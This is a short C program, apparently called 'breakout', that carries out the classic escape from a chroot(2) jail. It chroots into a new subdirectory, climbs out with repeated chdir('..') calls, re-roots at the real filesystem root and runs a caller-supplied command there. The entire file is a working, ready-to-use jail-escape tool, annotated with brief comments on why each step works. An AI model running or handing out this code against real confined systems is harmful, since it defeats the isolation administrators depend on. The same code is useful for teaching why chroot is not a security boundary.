/* breakout COMMAND...: the classical way out of chroot(2), which changes
   where "/" is, but not where a process stands. */
#include <stdio.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int count, char **words)
{
    if (count < 2)
        return 2;
    mkdir("deeper", 0700);
    if (chroot("deeper") != 0) {  /* now it stands outside of its "/" */
        perror("chroot deeper");
        return 1;
    }
    for (int i = 0; i < 100; i++)
        if (chdir("..") != 0)     /* and meets no "/" on its way up */
            perror("chdir ..");
    if (chroot(".") != 0) {       /* where it has come to is its new "/" */
        perror("chroot .");
        return 1;
    }
    if (fork() == 0) {            /* it stays itself, to be looked at */
        execvp(words[1], words + 1);
        perror(words[1]);
        _exit(127);
    }
    wait(NULL);
    return 0;
}
